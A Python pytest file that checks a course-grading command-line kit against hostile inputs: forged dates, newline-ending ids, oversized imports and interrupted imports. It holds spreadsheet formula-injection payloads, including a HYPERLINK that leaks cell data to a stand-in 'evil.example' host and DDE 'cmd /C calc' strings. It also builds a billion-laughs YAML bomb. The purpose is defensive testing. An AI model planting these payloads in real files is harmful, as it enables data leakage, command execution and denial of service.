"""Attacks on what the kit writes and reads, through the real commands.

``kit grade``: formulas in LMS file names and in answers must not reach a
spreadsheet as formulas; ids ending in a newline are refused; a forged
``created`` date never decides which of two files is graded.  ``kit
validate``: a billion-laughs sidecar and control characters give
``file:line`` and the rest of the folder is still checked.  ``kit import``:
an oversized file, every bad ``--out``, an interrupted or killed import.
Each command must answer with one clear line, a non-zero exit and no
traceback.
"""

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from kit.csvsafe import DANGEROUS

ROOT = Path(__file__).parent.parent
FIX = ROOT / "tests" / "data" / "exercises"
SEED = "lavrov-new-regions-2025"
TRANSCRIPT = ROOT / "tests" / "data" / "import" / "euthyphro-jowett.md"

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def kit(*args, cwd=ROOT, env=None, **kw):
    """Run ``python -m kit ARGS``; return the completed process.

    The generous timeout only turns a regression that would hang (an
    expanding billion laughs) into a failure; nothing here is timed.
    """
    env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run([sys.executable, "-m", "kit", *map(str, args)], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=600, **kw)


def one_clear_line(proc, *words):
    """Non-zero exit, no traceback, one line on stderr naming ``words``."""
    assert proc.returncode != 0, proc.stdout
    assert "Traceback" not in proc.stderr and "Traceback" not in proc.stdout
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, proc.stderr
    for w in words:
        assert w in lines[0], (w, lines[0])
    return lines[0]


def submission(student, created="2026-03-01T10:00:00+00:00", short_text="The reader extends the image."):
    return {"schema": 1, "kind": "discourse-kit submission", "student": student, "kit_version": "0.1.0",
            "created": created, "answers": {"90-fixture": {
                "90.2": {"value": ["a", "c"]}, "90.7": {"value": short_text}}}}


def put(folder: Path, name: str, data, mtime=None) -> Path:
    p = folder / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(json.dumps(data), encoding="utf-8")
    if mtime is not None:
        os.utime(p, (mtime, mtime))
    return p


def grade(subs: Path, out: Path, *extra):
    proc = kit("grade", subs, "--out", out, "--exercises", FIX, *extra)
    assert proc.returncode == 0, proc.stderr
    return proc


def cells(path: Path):
    """Every cell of a CSV file as a spreadsheet would receive it."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# ---------------------------------------------------------------- kit grade: CSV injection

@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csv")
    subs, out = tmp / "subs", tmp / "out"
    put(subs, "=HYPERLINK(\"http:evil\")_4321_assignsubmission_file_submission.json", submission("m01"))
    put(subs, "@SUM(1+1)_4322_assignsubmission_file_/submission.json", submission("m02"))
    put(subs, "+cmd_1201_7001_submission.json", submission("c01", short_text=FORMULAS[0]))
    put(subs, "-2+3+cmd_1202_7002_submission.json", submission("c02", short_text=FORMULAS[2]))
    put(subs, "plain.json", submission("p01", short_text="\t=1+1"))
    grade(subs, out)
    return out


def test_no_csv_cell_the_kit_writes_is_a_formula(hostile_class):
    written = sorted(hostile_class.glob("*.csv"))
    assert {p.name for p in written} >= {"gradebook.csv", "submissions.csv", "needs-review.csv", "scores.csv",
                                         "exercises.csv", "gradebook-canvas.csv", "gradebook-moodle.csv"}
    for path in written:
        for c in cells(path):
            assert not c.startswith(DANGEROUS) or is_number(c), (path.name, c)


def test_hostile_names_and_answers_are_kept_as_text(hostile_class):
    subs = pd.read_csv(hostile_class / "submissions.csv", dtype=str, keep_default_na=False)
    names = set(subs["lms_name"])
    assert "'=HYPERLINK(\"http:evil\")" in names and "'@SUM(1+1)" in names and "'+cmd" in names
    review = pd.read_csv(hostile_class / "needs-review.csv", dtype=str, keep_default_na=False)
    answers = set(review["answer"])
    assert "'" + FORMULAS[0] in answers and "'" + FORMULAS[2] in answers
    assert "'=1+1" in answers           # "\t=1+1": white space is folded in the excerpt, then quoted
    assert not any(a.startswith(DANGEROUS) for a in answers)


def test_points_stay_numbers(hostile_class):
    book = pd.read_csv(hostile_class / "gradebook.csv")
    for col in [c for c in book.columns if c.startswith("Exercise ")] + ["Total"]:
        assert pd.api.types.is_float_dtype(book[col]) or pd.api.types.is_integer_dtype(book[col]), col


# ---------------------------------------------------------------- kit grade: ids and duplicates

def test_an_id_ending_in_a_newline_is_refused(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    put(subs, "real.json", submission("victim"))
    put(subs, "evil.json", submission("victim\n"))
    grade(subs, out)
    rows = pd.read_csv(out / "submissions.csv", dtype=str, keep_default_na=False)
    status = dict(zip(rows["file"].map(lambda f: Path(f).name), rows["status"]))
    assert status == {"real.json": "graded", "evil.json": "bad-student"}
    assert [p.name for p in (out / "feedback").iterdir()] == ["victim.md"]
    book = pd.read_csv(out / "gradebook.csv", dtype=str)
    assert list(book["SIS User ID"]) == ["victim"]


def test_import_refuses_an_id_ending_in_a_newline(tmp_path):
    proc = kit("import", TRANSCRIPT, "--id", "a\n", "--out", tmp_path)
    one_clear_line(proc, "id")
    assert list(tmp_path.iterdir()) == []


def test_a_forged_future_created_date_does_not_replace_a_real_submission(tmp_path):
    """Plain file names (no LMS order): the date written inside the file is ignored; the newest
    file on disk is graded and the choice is flagged for review, the other file not dropped silently."""
    subs, out = tmp_path / "subs", tmp_path / "out"
    put(subs, "victim.json", submission("victim", short_text="my real answer"), mtime=2_000_000_000)
    put(subs, "forged.json", submission("victim", created="2099-01-01T00:00:00+00:00",
                                        short_text="the impostor's answer"), mtime=1_900_000_000)
    grade(subs, out)
    rows = pd.read_csv(out / "submissions.csv", dtype=str, keep_default_na=False)
    status = dict(zip(rows["file"].map(lambda f: Path(f).name), rows["status"]))
    assert status == {"victim.json": "graded", "forged.json": "duplicate-conflict"}
    graded = json.loads((out / "answers.jsonl").read_text().splitlines()[0])
    assert graded["answers"]["90.7"] == "my real answer"
    review = pd.read_csv(out / "needs-review.csv", dtype=str, keep_default_na=False)
    flagged = review[review["reason"].str.startswith("duplicate-conflict")]
    assert list(flagged["student"]) == ["victim"] and "forged.json" in flagged["reason"].iloc[0]


def test_canvas_upload_order_decides_not_the_created_date(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    put(subs, "smithjane_1001_5001_submission.json",
        submission("s01", created="2099-01-01T00:00:00+00:00", short_text="first upload"), mtime=2_000_000_000)
    put(subs, "smithjane_1001_5002_submission-1.json", submission("s01", short_text="second upload"),
        mtime=1_900_000_000)
    grade(subs, out)
    rows = pd.read_csv(out / "submissions.csv", dtype=str, keep_default_na=False)
    status = dict(zip(rows["file"].map(lambda f: Path(f).name), rows["status"]))
    assert status == {"smithjane_1001_5002_submission-1.json": "graded",
                      "smithjane_1001_5001_submission.json": "duplicate"}
    graded = json.loads((out / "answers.jsonl").read_text().splitlines()[0])
    assert graded["answers"]["90.7"] == "second upload"


# ---------------------------------------------------------------- kit validate: YAML

def billion_laughs(levels: int = 9) -> str:
    lines = ["format: 1", 'l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


@pytest.fixture
def texts(tmp_path):
    folder = tmp_path / "texts"
    folder.mkdir()
    for suffix in (".txt", ".yml"):
        shutil.copy(ROOT / "texts" / f"{SEED}{suffix}", folder / f"{SEED}{suffix}")
    return folder


def test_a_billion_laughs_sidecar_fails_fast_with_file_and_line(texts):
    (texts / "laughs.txt").write_text("Ha.\n")
    (texts / "laughs.yml").write_text(billion_laughs())
    proc = kit("validate", texts)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert f"{texts / 'laughs.yml'}:3: YAML aliases" in proc.stderr
    assert "1 of 2 texts valid" in proc.stderr                         # the seed was still checked


@pytest.mark.parametrize("content,message", [(billion_laughs(), ":3: YAML aliases"),
                                             ("exercises:\n  - id: \"92.1\"\n    prompt: ring \x07\n",
                                              ":3: control character U+0007")])
def test_a_hostile_exercise_file_is_refused_by_validate_and_grade(tmp_path, content, message):
    ex = tmp_path / "exercises"
    shutil.copytree(FIX, ex)
    (ex / "92-hostile.yml").write_text(content)
    proc = kit("exercises", "--dir", ex, "validate")
    assert proc.returncode != 0 and "Traceback" not in proc.stderr + proc.stdout
    assert "92-hostile.yml" + message in proc.stderr + proc.stdout
    subs = tmp_path / "subs"
    put(subs, "s.json", submission("s01"))
    graded = kit("grade", subs, "--out", tmp_path / "out", "--exercises", ex)
    assert graded.returncode != 0 and "Traceback" not in graded.stderr
    assert "92-hostile.yml" + message in graded.stderr


@pytest.mark.parametrize("where", ["sidecar-quoted", "sidecar-plain", "original"])
def test_control_characters_are_reported_as_file_line_and_the_folder_goes_on(texts, where):
    yml = (ROOT / "texts" / f"{SEED}.yml").read_text(encoding="utf-8")
    txt = (ROOT / "texts" / f"{SEED}.txt").read_text(encoding="utf-8")
    if where == "original":
        lines = txt.split("\n")
        lines[2] = lines[2] + "\x00\x1b[31m"
        txt, bad, line = "\n".join(lines), "ctl.txt", 3
    else:
        title = next(i for i, ln in enumerate(yml.split("\n")) if ln.startswith("title:"))
        lines = yml.split("\n")
        lines[title] = 'title: "bell \x07 here"' if where == "sidecar-quoted" else "title: bell \x07 here"
        yml, bad, line = "\n".join(lines), "ctl.yml", title + 1
    (texts / "ctl.txt").write_text(txt, encoding="utf-8")
    (texts / "ctl.yml").write_text(yml, encoding="utf-8")
    proc = kit("validate", texts)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert f"{texts / bad}:{line}: control character" in proc.stderr
    assert "1 of 2 texts valid" in proc.stderr


def test_a_billion_laughs_front_matter_is_ignored_by_import(tmp_path):
    body = TRANSCRIPT.read_text(encoding="utf-8")
    header = billion_laughs().replace("format: 1\n", "").replace("l9:", "title:")
    md = tmp_path / "laughs.md"
    md.write_text("---\n" + header + "source: *l9\n---\n" + body, encoding="utf-8")
    proc = kit("import", md, "--out", tmp_path / "texts")
    assert proc.returncode == 0, proc.stderr
    sidecar = (tmp_path / "texts" / "laughs.yml").read_text(encoding="utf-8")
    assert "lol" not in sidecar and len(sidecar) < 100_000


# ---------------------------------------------------------------- kit import: limits

def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    huge = tmp_path / "transcript.txt"
    with open(huge, "wb") as fh:                 # 50 MB, sparse: nothing is really written
        fh.truncate(50_000_000)
    for extra in ([], ["--dry-run"]):
        proc = kit("import", huge, "--out", tmp_path / "texts", *extra)
        one_clear_line(proc, "50,000,000 bytes", "20 MB", "--max-mb")
    assert not (tmp_path / "texts").exists()


def test_the_size_limit_can_be_set(tmp_path):
    one_clear_line(kit("import", TRANSCRIPT, "--out", tmp_path, "--max-mb", "0.001"), "limit of 0.001 MB")
    ok = kit("import", TRANSCRIPT, "--out", tmp_path, "--max-mb", "1")
    assert ok.returncode == 0, ok.stderr
    assert (tmp_path / "euthyphro-jowett.txt").exists()


def _bad_outs(tmp_path):
    a_file = tmp_path / "a-file.txt"
    a_file.write_text("x")
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere")
    return {"existing file": (a_file, "is a file"), "/proc/self": (Path("/proc/self"), "system folder"),
            "dangling link": (dangling, "does not exist"), "under a file": (a_file / "sub", "is a file")}


@pytest.mark.parametrize("case", ["existing file", "/proc/self", "dangling link", "under a file"])
def test_every_bad_out_gets_one_clear_line(tmp_path, case):
    out, words = _bad_outs(tmp_path)[case]
    one_clear_line(kit("import", TRANSCRIPT, "--out", out), words)
    assert not (tmp_path / "nowhere").exists()


def test_an_out_folder_without_write_permission_gets_one_clear_line(tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    args = [sys.executable, "-m", "kit", "import", str(TRANSCRIPT), "--out", str(locked / "texts")]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    if os.geteuid() != 0:
        locked.chmod(0o555)
        proc = subprocess.run(args, cwd=ROOT, env=env, capture_output=True, text=True)
        locked.chmod(0o755)
    else:   # root ignores permissions: make the folder read-only by a read-only bind mount instead
        if not shutil.which("unshare"):
            pytest.fail("running as root needs unshare(1) to make a read-only folder")
        script = 'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"'
        proc = subprocess.run(["unshare", "-m", "sh", "-c", script, str(locked), *args], cwd=ROOT, env=env,
                              capture_output=True, text=True)
    one_clear_line(proc, "no permission to write in", str(locked))
    assert list(locked.iterdir()) == []


_STALLED_IMPORT = """
import sys, kit.importer.store as store
from kit.cli import main
def stalled(path):                  # the draft is in the temporary folder: wait there
    print("in-temporary-folder", flush=True)
    sys.stdin.read()
store.validate = stalled
sys.exit(main(sys.argv[1:]))
"""


def _start_stalled_import(out: Path):
    proc = subprocess.Popen([sys.executable, "-c", _STALLED_IMPORT, "import", str(TRANSCRIPT), "--out", str(out)],
                            cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "in-temporary-folder"
    temporaries = [p for p in out.iterdir() if p.name.startswith(".kit-import-")]
    assert len(temporaries) == 1 and temporaries[0].is_dir()
    return proc, temporaries[0]


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_import_removes_its_temporary_folder(tmp_path, sig):
    proc, tmp = _start_stalled_import(tmp_path)
    proc.send_signal(sig)
    _, err = proc.communicate()
    assert proc.returncode == 130 and "interrupted; nothing was written" in err and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []


def test_a_killed_imports_temporary_folder_is_removed_by_the_next_import(tmp_path):
    proc, tmp = _start_stalled_import(tmp_path)
    proc.kill()
    proc.communicate()
    assert tmp.exists()                                   # kill -9 leaves it ...
    other = tmp_path / ".kit-import-notours"             # ... and a folder the kit did not make is left alone
    other.mkdir()
    ok = kit("import", TRANSCRIPT, "--out", tmp_path)
    assert ok.returncode == 0, ok.stderr
    assert not tmp.exists() and other.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".kit-import-notours", "euthyphro-jowett.txt",
                                                          "euthyphro-jowett.yml"]


def test_the_size_limit_holds_for_imports_from_a_notebook_too(tmp_path):
    """A notebook calls kit.importer.import_text directly: the same limit as `kit import`."""
    from kit.importer import ImportFailure, import_text
    big = tmp_path / "huge.txt"
    big.write_bytes(b"Q: why?\nA: because.\n" * 1_200_000)        # about 24 MB
    out = tmp_path / "texts"
    with pytest.raises(ImportFailure, match="more than the limit of 20 MB"):
        import_text(big, out=out)
    assert not out.exists()
